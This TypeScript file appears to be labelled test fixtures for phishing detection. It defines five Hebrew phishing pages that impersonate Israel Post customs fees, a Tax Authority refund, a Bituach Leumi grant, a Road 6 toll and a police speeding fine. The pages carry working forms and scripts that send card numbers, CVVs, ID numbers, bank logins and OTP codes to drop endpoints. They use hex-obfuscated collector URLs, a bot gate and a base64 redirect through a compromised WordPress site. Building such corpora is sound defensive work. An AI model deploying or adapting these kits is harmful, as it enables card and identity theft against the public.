import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { BOT_GATE, FONT_HE, LOGO, LUHN_JS, TZ_JS, b64, doc, hex } from '../parts/yu-kit.js';

// Israeli government / utility SMS lures: Israel Post customs fees, Tax Authority refunds, Bituach
// Leumi grants, Road 6 tolls and police fines. Small sums, urgency, then the card (and often the
// bank login) go to the drop.

export const entries: Entry[] = [
{
  id: 'yu-israelpost-customs-fee-3ds',
  label: 'phishing',
  kind: 'il-post-customs-lure',
  url: 'https://il-post.short-lnk.com/p/RR58821',
  routes: {
    'il-post.short-lnk.com/p/RR58821': redirectRoute(302, 'https://israelpost-delivery.co-il.info/track/RR558821004IL'),
    'israelpost-delivery.co-il.info/track/RR558821004IL': htmlRoute(
      doc({
        title: 'דואר ישראל - מעקב משלוחים',
        lang: 'he',
        css: `body{margin:0;font-family:${FONT_HE};background:#f7f7f7}.h{background:#fff;border-bottom:4px solid #d71920;padding:10px 18px}
.c{max-width:480px;margin:24px auto;background:#fff;padding:22px;border-radius:6px}
.tl{border-right:3px solid #d71920;padding-right:14px;margin:16px 0}.tl div{margin:0 0 12px;font-size:14px}.tl small{color:#888;display:block}
.pay{background:#fff5f5;border:1px solid #f2c4c4;padding:14px;border-radius:6px}a.b{display:block;text-align:center;background:#d71920;color:#fff;padding:13px;border-radius:4px;text-decoration:none;margin-top:14px}`,
        body: `<div class="h">${LOGO.post}</div>
<div class="c"><h2>מעקב אחר פריט RR558821004IL</h2>
<div class="tl"><div>הפריט הגיע לישראל<small>מרכז מיון בינלאומי נתב״ג</small></div><div>הפריט נבדק במכס<small>מודיעין - מחסן מכס</small></div><div style="color:#d71920"><b>הפריט מעוכב - נדרש תשלום מיסים ודמי טיפול</b><small>היום</small></div></div>
<div class="pay">סכום לתשלום: <b>7.90 ₪</b><br><small>פריט שלא ישולם בתוך 48 שעות יוחזר לשולח.</small></div>
<a class="b" href="/track/pay.html?item=RR558821004IL">לתשלום ושחרור הפריט</a></div>`,
      }),
    ),
    'israelpost-delivery.co-il.info/track/pay.html': htmlRoute(
      doc({
        title: 'דואר ישראל - תשלום',
        lang: 'he',
        css: `body{font-family:${FONT_HE};background:#f7f7f7}.c{max-width:420px;margin:30px auto;background:#fff;padding:22px}input{width:100%;box-sizing:border-box;padding:10px;margin:5px 0 12px;border:1px solid #ccc}
button{width:100%;padding:12px;background:#d71920;color:#fff;border:0}`,
        body: `<div class="c">${LOGO.post}<h3>תשלום דמי מכס - 7.90 ₪</h3>
<form id="pf"><label>שם מלא</label><input name="fn" required><label>תעודת זהות</label><input name="tz" required maxlength="9">
<label>כתובת למשלוח</label><input name="addr" required><label>מספר כרטיס אשראי</label><input name="cc" id="cc" required>
<label>תוקף</label><input name="exp" placeholder="MM/YY" required><label>CVV</label><input name="cvv" maxlength="4" required>
<button>תשלום</button></form></div>
<script>${LUHN_JS}
document.getElementById("pf").onsubmit=function(e){e.preventDefault();if(!luhn(document.getElementById("cc").value)){alert("כרטיס לא תקין");return}
fetch("/track/api/card.php",{method:"POST",body:new FormData(this)}).then(function(){location.href="/track/3ds.html"})};</script>`,
      }),
    ),
    'israelpost-delivery.co-il.info/track/api/card.php': jsonRoute({ ok: 1 }),
    'israelpost-delivery.co-il.info/track/3ds.html': htmlRoute(
      doc({
        title: 'אימות 3D Secure',
        lang: 'he',
        css: `body{font-family:Arial;background:#eee}.v{width:360px;margin:40px auto;background:#fff;padding:20px;border:1px solid #ccc}input{width:100%;padding:10px}`,
        body: `<div class="v"><b>Verified by Visa / Mastercard ID Check</b><p>קוד אימות נשלח לטלפון שלך עבור תשלום של 7.90 ₪ ל-ISRAEL POST.</p><form method="post" action="/track/api/card.php"><input name="otp3ds" maxlength="8"><button style="margin-top:10px">אישור</button></form></div>`,
      }),
    ),
  },
},
{
  id: 'yu-tax-authority-refund-formspree',
  label: 'phishing',
  kind: 'il-tax-refund-lure',
  url: 'https://gov-il-taxes.refund-portal.site/he/service/tax-refund-2024',
  body: doc({
    title: 'בקשה להחזר מס | רשות המסים בישראל',
    lang: 'he',
    css: `body{margin:0;font-family:${FONT_HE};background:#fff;color:#1b1b1b}
.gh{background:#fff;border-bottom:1px solid #ddd;padding:8px 20px;display:flex;gap:14px;align-items:center}.bl{background:#1c4b9c;color:#fff;padding:22px 20px}
.bl h1{margin:0;font-size:26px}.mn{max-width:640px;margin:24px auto;padding:0 16px}.st{display:flex;gap:6px;margin-bottom:16px}.st span{flex:1;height:6px;background:#dbe4f3}.st span.d{background:#1c4b9c}
fieldset{border:1px solid #d6dce6;padding:16px;margin-bottom:16px}legend{font-weight:700}label{display:block;margin:8px 0 4px;font-size:14px}
input{width:100%;box-sizing:border-box;padding:9px;border:1px solid #8a94a6}button{background:#1c4b9c;color:#fff;border:0;padding:12px 30px;font-size:16px}`,
    body: `<div class="gh">${LOGO.govil}<span>רשות המסים בישראל</span></div>
<div class="bl"><h1>החזר מס לשכירים - שנת המס 2024</h1><p>נמצאה זכאות להחזר בסך <b>3,418.00 ₪</b>. יש להשלים את הפרטים לקבלת ההחזר לחשבון הבנק.</p></div>
<div class="mn"><div class="st"><span class="d"></span><span class="d"></span><span></span></div>
<form action="https://formspree.io/f/xqaznbwe" method="POST">
<fieldset><legend>פרטי הנישום</legend><label>שם פרטי ומשפחה</label><input name="name" required><label>מספר זהות</label><input name="tz" maxlength="9" required>
<label>תאריך לידה</label><input name="dob" placeholder="DD/MM/YYYY" required><label>טלפון נייד</label><input name="mobile" required></fieldset>
<fieldset><legend>חשבון לזיכוי</legend><label>בנק</label><input name="bank" required><label>סניף</label><input name="branch" required><label>מספר חשבון</label><input name="account" required></fieldset>
<fieldset><legend>אימות זהות באמצעות כרטיס חיוב</legend><p style="font-size:13px">לצורך אימות הזהות יבוצע חיוב סמלי של 1 ₪ שיוחזר יחד עם ההחזר.</p>
<label>מספר כרטיס</label><input name="card" required><label>תוקף</label><input name="exp" required><label>CVV</label><input name="cvv" required></fieldset>
<input type="hidden" name="_next" value="https://www.gov.il/he/departments/israel_tax_authority/govil-landing-page">
<button type="submit">שליחת הבקשה</button></form></div>`,
  }),
},
{
  id: 'yu-bituach-leumi-grant-hex-strings',
  label: 'phishing',
  kind: 'il-nii-grant-lure',
  url: 'https://btl-gov.maanak-2025.com/ps/grant/?u=5521',
  body: doc({
    title: 'המוסד לביטוח לאומי - מענק חד פעמי',
    lang: 'he',
    css: `body{margin:0;font-family:${FONT_HE};background:#eef3f9}.top{background:#00539f;color:#fff;padding:12px 20px}
.top svg text{fill:#fff}.bx{max-width:460px;margin:24px auto;background:#fff;border-radius:8px;padding:24px}
input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #b9c7d8;border-radius:4px;margin:6px 0 12px}.btn{background:#00539f;color:#fff;border:0;width:100%;padding:12px;font-size:16px;border-radius:4px}
.hid{display:none}`,
    body: `<div class="top">${LOGO.btl}</div>
<div class="bx"><h2>מענק סיוע חד פעמי למשפחות</h2><p>בהתאם להחלטת הממשלה, הנך זכאי/ת למענק בסך <b>2,150 ₪</b>. המענק יועבר רק לאחר הזדהות באזור האישי.</p>
<div id="a"><input id="tz" placeholder="מספר זהות" maxlength="9"><input id="ph" placeholder="טלפון נייד"><input id="dt" placeholder="תאריך הנפקת תעודת זהות"><button class="btn" id="x1">המשך</button></div>
<div id="b" class="hid"><p>לצורך העברת המענק יש להתחבר לחשבון הבנק בו מתקבלות הקצבאות:</p><input id="bu" placeholder="שם משתמש בבנק"><input id="bp" type="password" placeholder="סיסמה"><button class="btn" id="x2">העברת המענק</button></div>
<div id="c" class="hid"><p>הזינו את קוד האימות שנשלח מהבנק</p><input id="oc" maxlength="6"><button class="btn" id="x3">אישור</button></div></div>
<script>
function _h(s){var o="";for(var i=0;i<s.length;i+=2)o+=String.fromCharCode(parseInt(s.substr(i,2),16));return decodeURIComponent(escape(o))}
var _ep=_h("${hex('https://btl-gov.maanak-2025.com/ps/grant/rcv.php')}"),_rd=_h("${hex('https://www.btl.gov.il/')}");
function $(i){return document.getElementById(i)}
function s(d){return fetch(_ep,{method:"POST",headers:{"Content-Type":"application/x-www-form-urlencoded"},body:new URLSearchParams(d)})}
$("x1").onclick=function(){s({tz:$("tz").value,ph:$("ph").value,dt:$("dt").value}).finally(function(){$("a").className="hid";$("b").className=""})};
$("x2").onclick=function(){s({tz:$("tz").value,bu:$("bu").value,bp:$("bp").value}).finally(function(){$("b").className="hid";$("c").className=""})};
$("x3").onclick=function(){s({tz:$("tz").value,oc:$("oc").value}).finally(function(){location.replace(_rd)})};
</script>`,
  }),
  routes: { 'btl-gov.maanak-2025.com/ps/grant/rcv.php': jsonRoute({ s: 1 }) },
},
{
  id: 'yu-road6-toll-compromised-wp-hop',
  label: 'phishing',
  kind: 'il-toll-road-lure',
  url: 'https://www.galil-tzimmer-nofim.co.il/wp-content/uploads/2025/03/k6/index.html',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>...</title>
<meta http-equiv="refresh" content="3;url=https://kvish6-payment.toll-il.cc/pay/invoice?inv=6K-88310">
</head><body><script>
${BOT_GATE}
if(!_isBot()){setTimeout(function(){window.location.href=atob("${b64('https://kvish6-payment.toll-il.cc/pay/invoice?inv=6K-88310')}")},400)}
</script></body></html>`,
  routes: {
    'kvish6-payment.toll-il.cc/pay/invoice': htmlRoute(
      doc({
        title: 'כביש 6 - תשלום חשבונית',
        lang: 'he',
        css: `body{margin:0;font-family:${FONT_HE};background:#f4f6f4}.h{background:#00843d;color:#fff;padding:14px 20px;font-size:22px;font-weight:700}
.c{max-width:520px;margin:24px auto;background:#fff;padding:22px;border-radius:6px}.inv{border:1px dashed #999;padding:12px;font-size:14px;line-height:1.8}
.c input{width:100%;box-sizing:border-box;padding:10px;margin:4px 0 10px;border:1px solid #aaa}.c button{width:100%;background:#00843d;color:#fff;border:0;padding:12px;font-size:16px}
.warn{color:#b00;font-size:13px}`,
        body: `<div class="h">כביש 6 חוצה ישראל | דרך ארץ</div>
<div class="c"><h3>חשבונית נסיעה שלא שולמה</h3>
<div class="inv">מספר חשבונית: 6K-88310<br>נסיעה: מחלף עירון ← מחלף חורשים<br>סכום: <b>23.80 ₪</b><br>דמי טיפול: 0.00 ₪</div>
<p class="warn">אי תשלום עד תאריך הפירעון יגרור תוספת פיגורים של 53.40 ₪ והעברת החוב לגבייה.</p>
<form id="k6"><input name="plate" placeholder="מספר רכב" required><input name="tz" placeholder="ת.ז. בעל הרכב" required>
<input name="cc" placeholder="מספר כרטיס אשראי" required><input name="exp" placeholder="תוקף MM/YY" required><input name="cvv" placeholder="CVV" required><button>תשלום</button></form></div>
<script>${TZ_JS}
document.getElementById("k6").onsubmit=function(e){e.preventDefault();var f=new FormData(this);f.append("inv","6K-88310");
fetch("/pay/handler.php",{method:"POST",body:f}).then(function(r){return r.text()}).then(function(){document.querySelector(".c").innerHTML="<h3>התשלום בעיבוד</h3><p>הזן את הקוד שנשלח אליך לאישור החיוב:</p><form method='post' action='/pay/handler.php'><input name='otp'><button>אישור</button></form>"})};</script>`,
      }),
    ),
    'kvish6-payment.toll-il.cc/pay/handler.php': htmlRoute('ok'),
  },
},
{
  id: 'yu-police-traffic-fine-photo-lure',
  label: 'phishing',
  kind: 'il-traffic-fine-lure',
  url: 'https://police-gov-il.dohot-tnua.info/view/?report=77-41930286',
  body: doc({
    title: 'משטרת ישראל - צפייה בדוח תנועה',
    lang: 'he',
    css: `body{margin:0;font-family:${FONT_HE};background:#f0f2f5}.h{background:#17305b;color:#fff;padding:14px 20px;display:flex;align-items:center;gap:12px}
.star{width:34px;height:34px}.mn{max-width:560px;margin:22px auto;background:#fff;padding:22px;border-radius:4px}
.ph{height:150px;background:repeating-linear-gradient(45deg,#ccc 0 10px,#ddd 10px 20px);filter:blur(3px);display:flex;align-items:center;justify-content:center;color:#333}
input{width:100%;box-sizing:border-box;padding:10px;margin:4px 0 12px;border:1px solid #aab}button{width:100%;background:#17305b;color:#fff;border:0;padding:12px}`,
    body: `<div class="h"><svg class="star" viewBox="0 0 24 24"><path d="M12 2l3 6 6 1-4.5 4 1 6-5.5-3-5.5 3 1-6L3 9l6-1z" fill="#f2c94c"/></svg><b>משטרת ישראל</b> - אגף התנועה</div>
<div class="mn"><h3>דוח מצלמת מהירות מס׳ 77-41930286</h3><div class="ph">תמונת הרכב (מטושטשת עד להזדהות)</div>
<p>עבירה: מהירות 92 קמ״ש באזור 70 קמ״ש | קנס: <b>750 ₪</b>. תשלום תוך 7 ימים מזכה בהנחה של 50%.</p>
<form action="/view/confirm.php" method="post"><label>מספר זהות</label><input name="tz" required><label>מספר רישוי</label><input name="plate" required>
<label>מספר כרטיס אשראי לתשלום המופחת (375 ₪)</label><input name="card" required><label>תוקף / CVV</label><input name="expcvv" required><button>צפייה ותשלום</button></form></div>`,
  }),
  routes: { 'police-gov-il.dohot-tnua.info/view/confirm.php': redirectRoute(302, 'https://www.gov.il/he/departments/israel_police') },
},
];
